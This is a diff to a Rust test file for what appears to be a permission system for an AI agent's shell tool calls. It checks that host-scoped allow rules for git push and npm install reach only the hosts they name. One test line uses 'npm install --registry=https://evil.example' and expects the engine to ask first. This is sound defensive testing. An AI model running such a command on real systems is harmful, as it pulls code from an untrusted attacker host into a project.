@@ -17,18 +17,8 @@ fn set_origin(dir: &std::path::Path, url: &str) {
     std::fs::write(dir.join(".git/config"), format!("[remote \"origin\"]\n\turl = {url}\n")).unwrap();
 }
 
-fn bash_at(dir: &std::path::Path, cmd: &str) -> Subject {
-    Subject::new(
-        "default",
-        KindName::ToolCall,
-        Facts {
-            tool: Some("Bash".into()),
-            command: Some(cmd.into()),
-            cwd: Some(dir.to_string_lossy().into_owned()),
-            confinable: true,
-            ..Default::default()
-        },
-    )
+fn bash_in_repo(dir: &std::path::Path, cmd: &str) -> Subject {
+    bash_at(&dir.to_string_lossy(), cmd)
 }
 
 /// "Allow similar" on a push saves the push exactly, boxed, reaching its remote's host alone;
@@ -36,7 +26,7 @@ fn bash_at(dir: &std::path::Path, cmd: &str) -> Subject {
 #[test]
 fn a_similar_rule_for_a_push_reaches_its_remote_alone() {
     let d = repo("https://github.com/acme/app.git");
-    let push = |cmd: &str| bash_at(d.path(), cmd);
+    let push = |cmd: &str| bash_in_repo(d.path(), cmd);
     let m = similar(&push("git push origin main")).unwrap();
     assert_eq!(
         (m.input.as_deref(), m.exact, m.confine, m.reaches.clone()),
@@ -70,13 +60,13 @@ fn a_boxed_allow_reaches_only_the_hosts_it_names() {
         ..Default::default()
     };
     let bare = set(vec![rule("bare", Effect::Allow, boxed(Vec::new()))]);
-    let r = bare.rule(&bash_at(d.path(), "npm install"), Timestamp(0));
+    let r = bare.rule(&bash_in_repo(d.path(), "npm install"), Timestamp(0));
     assert_eq!((r.effect, r.hosts), (Effect::Allow, Vec::<String>::new()));
     let named = set(vec![rule("named", Effect::Allow, boxed(vec!["registry.npmjs.org".into()]))]);
-    let r = named.rule(&bash_at(d.path(), "npm install"), Timestamp(0));
+    let r = named.rule(&bash_in_repo(d.path(), "npm install"), Timestamp(0));
     assert_eq!((r.effect, r.hosts), (Effect::Allow, vec!["registry.npmjs.org".to_string()]));
     // Words that name another registry: asked.
-    let other = named.rule(&bash_at(d.path(), "npm install --registry=https://evil.example"), Timestamp(0));
+    let other = named.rule(&bash_in_repo(d.path(), "npm install --registry=https://evil.example"), Timestamp(0));
     assert_eq!(other.effect, Effect::Ask);
     // `reaches` is checked: in one form, and with a box only.
     for bad in [
